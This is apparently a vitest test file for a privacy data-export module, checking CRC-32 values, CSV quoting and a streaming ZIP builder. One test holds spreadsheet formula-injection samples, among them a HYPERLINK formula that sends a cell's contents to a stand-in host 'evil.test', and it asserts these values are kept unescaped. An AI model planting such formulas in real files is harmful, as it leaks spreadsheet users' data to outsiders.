import { describe, expect, it } from 'vitest';
import { crc32 } from '../../server/core/crc32.ts';
import { csvLine } from '../../server/core/privacy/csv-line.ts';
import { zipStream, type ZipEntry } from '../../server/core/zip.ts';
import { parseCsv, unzip } from '../helpers/privacy-zip.ts';

const bytes = (text: string) => new TextEncoder().encode(text);

async function* chunks(...parts: string[]): AsyncGenerator<Uint8Array> {
  for (const p of parts) yield bytes(p);
}

async function read(stream: ReadableStream<Uint8Array>): Promise<Uint8Array> {
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

describe('export building blocks', () => {
  it('CRC-32 matches the standard check value, chunk by chunk too', () => {
    expect(crc32(bytes('123456789'))).toBe(0xcbf43926);
    expect(crc32(bytes('6789'), crc32(bytes('12345')))).toBe(0xcbf43926);
    expect(crc32(new Uint8Array())).toBe(0);
  });

  it('CSV quotes what needs quoting and nothing else', () => {
    const line = csvLine(['plain', 'a,b', 'say "hi"', 'two\nlines', 3, null]);
    expect(line).toBe('plain,"a,b","say ""hi""","two\nlines",3,\r\n');
    expect(parseCsv(csvLine(['h1', 'h2', 'h3', 'h4', 'h5', 'h6']) + line).rows[0]).toEqual({
      h1: 'plain', h2: 'a,b', h3: 'say "hi"', h4: 'two\nlines', h5: '3', h6: '',
    });
  });

  it('CSV keeps formula-like text exact, for an importer to read back as it was', () => {
    const values = ['=HYPERLINK("http://evil.test/?x="&A1,"x")', '+cmd', '-2+3', '@SUM(1+1)', '\tx', -3];
    expect(csvLine(values)).toBe('"=HYPERLINK(""http://evil.test/?x=""&A1,""x"")",+cmd,-2+3,@SUM(1+1),\tx,-3\r\n');
    const header = values.map((_, i) => `h${i}`);
    expect(Object.values(parseCsv(csvLine(header) + csvLine(values)).rows[0]!)).toEqual(values.map(String));
  });

  it('the ZIP holds each entry whole, in order, with UTF-8 names, pulled one chunk at a time', async () => {
    let pulled = 0;
    async function* entries(): AsyncGenerator<ZipEntry> {
      pulled++;
      yield { name: 'a.csv', chunks: chunks('x,y\r\n', '1,2\r\n') };
      pulled++;
      yield { name: 'æøå.csv', chunks: chunks() };
      pulled++;
      yield { name: 'b.csv', chunks: chunks('z'.repeat(70_000)) };
    }
    // Nothing is produced ahead of the reader: the first chunk needs the first entry only.
    const reader = zipStream(entries(), new Date('2024-03-12T12:34:56Z')).getReader();
    const first = await reader.read();
    expect([...first.value!.subarray(0, 4)]).toEqual([0x50, 0x4b, 0x03, 0x04]);
    expect(pulled).toBe(1);
    await reader.cancel();
    const files = unzip(await read(zipStream(entries(), new Date('2024-03-12T12:34:56Z'))));
    expect([...files.keys()]).toEqual(['a.csv', 'æøå.csv', 'b.csv']);
    expect(files.get('a.csv')).toBe('x,y\r\n1,2\r\n');
    expect(files.get('æøå.csv')).toBe('');
    expect(files.get('b.csv')).toHaveLength(70_000);
  });
});
